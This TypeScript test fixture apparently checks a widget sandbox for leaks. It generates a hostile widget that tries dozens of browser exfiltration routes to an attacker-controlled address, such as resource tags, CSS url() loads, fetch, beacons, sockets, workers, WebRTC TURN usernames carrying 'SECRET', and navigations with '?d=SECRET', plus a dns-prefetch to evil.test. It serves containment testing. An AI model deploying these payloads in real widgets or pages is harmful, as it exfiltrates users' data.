import { widgetBoot } from '../../src/contract/widget-frame.ts'

/** Where a widget that was taken over tries to send a secret: an HTTP address, its socket twin, and a TURN server. */
export interface Outside {
  readonly http: string
  readonly turnPort: number
}

export interface Attack {
  readonly html: string
  readonly css: string
  readonly script: string
}

/**
 * A widget that tries every way out that browsers are known to have. It says `{ tried }` to the page around it when it has
 * tried all those that let it stay. Those that would take it elsewhere end what is still on its way, so it waits with them
 * until it hears `leave`, and says `{ left }` if it is still there after the last of them.
 */
export function widgetAttack(outside: Outside): Attack {
  return { html: markup(outside), css: styles(outside), script: script(outside) }
}

function markup({ http: to }: Outside): string {
  return `<link rel=stylesheet href="${to}/link-css"><link rel=preload as=image href="${to}/preload">
<link rel=prefetch href="${to}/prefetch"><link rel=modulepreload href="${to}/modulepreload">
<link rel=icon href="${to}/icon"><link rel=manifest href="${to}/manifest"><link rel=prerender href="${to}/prerender">
<link rel=dns-prefetch href="http://dnsprefetch.evil.test"><link rel=preconnect href="${to}">
<img src="${to}/img"><img srcset="${to}/srcset 1x"><picture><source srcset="${to}/picture"><img></picture>
<video src="${to}/video" poster="${to}/poster" autoplay><track src="${to}/track" default kind=subtitles></video>
<audio src="${to}/audio" autoplay></audio><object data="${to}/object"></object><embed src="${to}/embed">
<iframe src="${to}/iframe"></iframe><iframe srcdoc="<img src='${to}/srcdoc-img'>"></iframe>
<iframe src="data:text/html,<img src='${to}/data-img'>"></iframe>
<svg><image href="${to}/svg-image"/><use href="${to}/svg-use#a"/><feImage href="${to}/svg-fe"/></svg>
<form id=fm action="${to}/form" method=post><button>x</button></form>
<a id=lnk href="${to}/a-nav" ping="${to}/ping">x</a><a id=blank href="${to}/a-blank" target=_blank>x</a>
<a id=top href="${to}/a-top" target=_top>x</a><a id=dl href="${to}/a-dl" download>x</a>
<input type=image src="${to}/input-image"><table background="${to}/table-bg"><tr><td>x</table>
<math><mtext href="${to}/math">x</mtext></math><div style="background:image-set(url(${to}/image-set) 1x)">x</div>
<base href="${to}/base/"><portal src="${to}/portal"></portal><fencedframe></fencedframe>`
}

function styles({ http: to }: Outside): string {
  return `@import url(${to}/css-import);
body { background: url(${to}/css-url); font-family: x; cursor: url(${to}/cursor), auto;
  list-style-image: url(${to}/liststyle); -webkit-mask-image: url(${to}/mask); mask-image: url(${to}/mask2);
  filter: url(${to}/filter#a); border-image: url(${to}/border) 1; shape-outside: url(${to}/shape) }
body::before { content: url(${to}/content) }
@font-face { font-family: x; src: url(${to}/font) }`
}

/** TURN tells the server the user's name, and a server that asks for it is told it with the secret inside. */
function turn(port: number, tag: string): string {
  return `new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${port}', username: '${tag} SECRET', credential: 'x' }] })`
}

function calling(port: number, tag: string): string {
  // One that nobody holds may be gone before it has asked the server.
  return `{ const p = ${turn(port, tag)}; (window.held ??= []).push(p); p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o)) }`
}

/** Ways that let the widget stay, by name; `to` is an address, and a frame is put in with `frame`. */
function ways({ http: to, turnPort }: Outside): Readonly<Record<string, string>> {
  const inner = `<script>${calling(turnPort, 'inner')}</script>`
  const socket = to.replace('http', 'ws')
  const text = (value: string) => JSON.stringify(value).replaceAll('<', String.raw`\u003c`)
  const fromFrame = (set: string) =>
    `const f = document.createElement('iframe'); ${set}; document.body.append(f); f.onload = () => { const R = f.contentWindow.RTCPeerConnection; ${calling(turnPort, 'frame').replace('RTCPeerConnection', 'R')} }`
  return {
    rtc: calling(turnPort, 'direct'),
    'rtc by its old name': calling(turnPort, 'old').replace('RTCPeerConnection', 'webkitRTCPeerConnection'),
    'rtc of an empty frame': fromFrame(''),
    'rtc of a frame of text': fromFrame(`f.srcdoc = '<p>x'`),
    'rtc of a frame of script': fromFrame(`f.src = 'javascript:1'`),
    'rtc in srcdoc': `const f = document.createElement('iframe'); f.srcdoc = ${text(inner)}; document.body.append(f)`,
    'rtc in data': `const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(${text(inner)}); document.body.append(f)`,
    'rtc in blob': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([${text(inner)}], { type: 'text/html' })); document.body.append(f)`,
    'rtc in svg': `const f = document.createElement('iframe'); f.srcdoc = ${text(`<svg onload="${calling(turnPort, 'inner').replaceAll('"', '&quot;')}">`)}; document.body.append(f)`,
    'rtc in a frame in a frame': `const f = document.createElement('iframe'); f.srcdoc = ${text(`<iframe srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>`)}; document.body.append(f)`,
    'rtc in a popup': `const w = window.open('about:blank'); ${calling(turnPort, 'open').replace('new RTC', 'new w.RTC')}`,
    'boot again': `const f = document.createElement('iframe'); f.srcdoc = '<script>' + ${text(widgetBoot)} + '<\\/script>'; document.body.append(f); f.onload = () => f.contentWindow.postMessage({ type: 'widget', script: ${text(calling(turnPort, 'nested'))} }, '*')`,
    fetch: `await fetch('${to}/fetch', { mode: 'no-cors', keepalive: true })`,
    xhr: `const x = new XMLHttpRequest(); x.open('GET', '${to}/xhr'); x.send()`,
    beacon: `navigator.sendBeacon('${to}/beacon', 'x')`,
    socket: `new WebSocket('${socket}/ws')`,
    'socket stream': `await new WebSocketStream('${socket}/wss').opened`,
    events: `new EventSource('${to}/es')`,
    transport: `await new WebTransport('https://127.0.0.1:${turnPort}/wt').ready`,
    worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${to}/worker-fetch",{mode:"no-cors"});new WebSocket("${socket}/worker-ws")'])))`,
    'worker of data': `new Worker('data:text/javascript,fetch("${to}/worker-data",{mode:"no-cors"})')`,
    'shared worker': `new SharedWorker('data:text/javascript,fetch("${to}/shared",{mode:"no-cors"})')`,
    'service worker': `await navigator.serviceWorker.register('${to}/sw.js')`,
    import: `await import('${to}/import')`,
    script: `const s = document.createElement('script'); s.src = '${to}/script'; document.head.append(s)`,
    speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${to}/spec-prefetch'], eagerness: 'immediate' }] }); document.head.append(s)`,
    'import map': `const s = document.createElement('script'); s.type = 'importmap'; s.textContent = '{"imports":{"q":"${to}/importmap"}}'; document.head.append(s); await import('q')`,
    font: `await new FontFace('q', 'url(${to}/fontface)').load()`,
    'paint worklet': `await CSS.paintWorklet.addModule('${to}/paint')`,
    'audio worklet': `await new AudioContext().audioWorklet.addModule('${to}/audioworklet')`,
    image: `new Image().src = '${to}/newimage'`,
    'css of a sheet': `const s = new CSSStyleSheet(); s.replaceSync('html{background:url(${to}/constructed)}'); document.adoptedStyleSheets = [s]`,
    'refresh of a frame': `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content="0;url=${to}/frame-refresh">'; document.body.append(f)`,
    hls: `const v = document.createElement('video'); v.src = '${to}/hls.m3u8'; v.load()`,
    later: `fetchLater('${to}/fetchlater', { activateAfter: 0 })`,
    attribution: `const i = document.createElement('img'); i.setAttribute('attributionsrc', '${to}/attribution'); document.body.append(i)`,
    storage: `await window.sharedStorage.worklet.addModule('${to}/ss')`,
    payment: `await new PaymentRequest([{ supportedMethods: '${to}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
    presentation: `await new PresentationRequest('${to}/presentation').getAvailability()`,
    xslt: `const p = new XSLTProcessor(); const d = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\\'${to}/xslt\\')"/></xsl:template></xsl:stylesheet>', 'text/xml'); p.importStylesheet(d); p.transformToFragment(d, document)`,
    dtd: `new DOMParser().parseFromString('<!DOCTYPE a SYSTEM "${to}/dtd"><a/>', 'text/xml')`,
  }
}

/** Ways that leave the page. */
function departures(to: string): readonly string[] {
  return [
    `document.getElementById('fm').submit()`,
    `window.open('${to}/open')`,
    `document.getElementById('blank').click()`,
    `document.getElementById('top').click()`,
    `document.getElementById('dl').click()`,
    `top.location = '${to}/topnav'`,
    `document.getElementById('lnk').click()`,
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${to}/meta-refresh'; document.head.append(m)`,
    `location.href = '${to}/selfnav?d=SECRET'`,
    `location.href = 'data:text/html,<img src=${to}/datanav>'`,
  ]
}

function script(outside: Outside): string {
  const tries = Object.values(ways(outside)).map((code) => `async () => { ${code} }`)
  const leaves = departures(outside.http).map((code) => `() => { ${code} }`)
  return `
  const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
  const attempt = async (way) => { try { await Promise.race([way(), soon(1000)]) } catch {} }
  ;(async () => {
    await Promise.all([${tries.join(',\n')}].map(attempt))
    const told = new Promise((resolve) => addEventListener('message', ({ data }) => data?.type === 'leave' && resolve()))
    parent.postMessage({ tried: ${tries.length} }, '*')
    await told
    for (const leave of [${leaves.join(',\n')}]) { await attempt(leave); await soon(50) }
    parent.postMessage({ left: ${leaves.length} }, '*')
  })()`
}
